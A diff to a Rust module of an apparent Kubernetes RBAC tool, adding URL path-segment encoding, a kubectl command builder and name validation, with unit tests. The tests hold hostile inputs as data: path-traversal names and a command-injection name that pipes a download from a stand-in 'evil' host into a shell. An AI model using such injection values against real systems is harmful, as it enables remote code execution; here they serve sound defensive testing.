@@ -4,7 +4,25 @@
 
 use std::fmt;
 
+use percent_encoding::{AsciiSet, NON_ALPHANUMERIC, utf8_percent_encode};
 use serde::Serialize;
+
+use crate::inventory::syntax;
+use crate::wording;
+
+/// What a path segment holds as it is: unreserved characters, and `:` and `@` (RFC 3986, 3.3).
+const SEGMENT: &AsciiSet =
+    &NON_ALPHANUMERIC.remove(b'-').remove(b'.').remove(b'_').remove(b'~').remove(b':').remove(b'@');
+
+/// Encodes one segment of a path: whatever a name holds, it stays one segment.
+fn segment(name: &str) -> String {
+    match name {
+        // Proxies and servers resolve these before anybody sees them.
+        "." => "%2E".to_owned(),
+        ".." => "%2E%2E".to_owned(),
+        name => utf8_percent_encode(name, SEGMENT).to_string(),
+    }
+}
 
 /// A kind of object, ordered as an apply writes them: what is referred to comes first.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
@@ -77,11 +95,11 @@ impl Kind {
         }
     }
 
-    /// Returns the path of the collection: in one namespace, or in the whole cluster.
+    /// Returns the path of the collection, encoded for a URL: in one namespace, or in the whole cluster.
     pub fn collection_path(self, namespace: Option<&str>) -> String {
         match namespace {
             Some(namespace) => {
-                format!("{}/namespaces/{namespace}/{}", self.root(), self.resource())
+                format!("{}/namespaces/{}/{}", self.root(), segment(namespace), self.resource())
             }
             None => format!("{}/{}", self.root(), self.resource()),
         }
@@ -122,9 +140,36 @@ impl ObjectRef {
         self.kind.collection_path(self.namespace.as_deref())
     }
 
-    /// Returns the path of the object.
+    /// Returns the path of the object, encoded for a URL.
     pub fn path(&self) -> String {
-        format!("{}/{}", self.collection_path(), self.name)
+        format!("{}/{}", self.collection_path(), segment(&self.name))
+    }
+
+    /// Returns a kubectl command about the object, for copying.
+    pub fn kubectl(&self, verb: &str, more: &[&str]) -> String {
+        let kind = self.kind.as_str().to_lowercase();
+        let mut words = vec!["kubectl", verb, kind.as_str()];
+        if let Some(namespace) = &self.namespace {
+            words.extend(["-n", namespace.as_str()]);
+        }
+        words.push(&self.name);
+        words.extend(more);
+        wording::command(&words)
+    }
+
+    /// Whether Kubernetes could have an object of this name in this namespace. What a server says that has
+    /// another name is not used: names end up in URLs and in commands to copy.
+    pub fn is_possible(&self) -> bool {
+        let is_namespace = |name: &str| syntax::dns_label(name).is_ok();
+        let name = self.name.as_str();
+        let is_named = match self.kind {
+            Kind::Namespace => is_namespace(name),
+            Kind::ServiceAccount | Kind::Secret => syntax::dns_subdomain(name).is_ok(),
+            Kind::ClusterRole | Kind::Role | Kind::ClusterRoleBinding | Kind::RoleBinding => {
+                syntax::path_segment(name).is_ok()
+            }
+        };
+        is_named && self.namespace.as_deref().is_none_or(is_namespace)
     }
 }
 
@@ -170,5 +215,37 @@ impl fmt::Display for Subject {
             Some(namespace) => write!(f, "{} {namespace}/{}", self.kind, self.name),
             None => write!(f, "{} {}", self.kind, self.name),
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The names of an index or a list may be anybody's text.
+    #[test]
+    fn a_name_never_leaves_its_segment_of_the_path() {
+        let path = |namespace: &str, name: &str| ObjectRef::namespaced(Kind::Secret, namespace, name).path();
+        assert_eq!(path("ci", "reader-1"), "/api/v1/namespaces/ci/secrets/reader-1");
+        assert_eq!(
+            path("a/b?c", "../../../../api/v1/namespaces/x"),
+            "/api/v1/namespaces/a%2Fb%3Fc/secrets/..%2F..%2F..%2F..%2Fapi%2Fv1%2Fnamespaces%2Fx"
+        );
+        assert_eq!(path("..", "."), "/api/v1/namespaces/%2E%2E/secrets/%2E");
+        let role = ObjectRef::cluster_scoped(Kind::ClusterRole, "kubemint:acme:x%20 y");
+        assert_eq!(role.path(), "/apis/rbac.authorization.k8s.io/v1/clusterroles/kubemint:acme:x%2520%20y");
+    }
+
+    #[test]
+    fn impossible_names_are_known() {
+        let secret = |namespace: &str, name: &str| ObjectRef::namespaced(Kind::Secret, namespace, name).is_possible();
+        assert!(secret("ci", "a.b-1"));
+        for (namespace, name) in
+            [("ci", ""), ("ci", "x; curl http://evil/|sh #"), ("ci", "A"), ("", "a"), ("../x", "a")]
+        {
+            assert!(!secret(namespace, name), "{namespace}/{name}");
+        }
+        let role = |name: &str| ObjectRef::cluster_scoped(Kind::ClusterRole, name).is_possible();
+        assert!(role("kubemint:acme:reader") && !role("..") && !role("a/b"));
     }
 }
